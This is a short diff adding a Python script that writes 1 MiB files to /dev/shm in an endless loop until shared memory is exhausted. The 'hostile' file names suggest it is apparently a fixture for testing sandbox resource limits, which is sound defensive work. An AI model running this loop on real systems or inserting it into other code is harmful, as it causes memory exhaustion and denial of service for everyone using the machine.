@@ -1,0 +1,5 @@
+written = 0
+while True:
+    with open(f"/dev/shm/r1fast_hostile_{written}", "wb") as file:
+        file.write(b"x" * (1 << 20))
+    written += 1
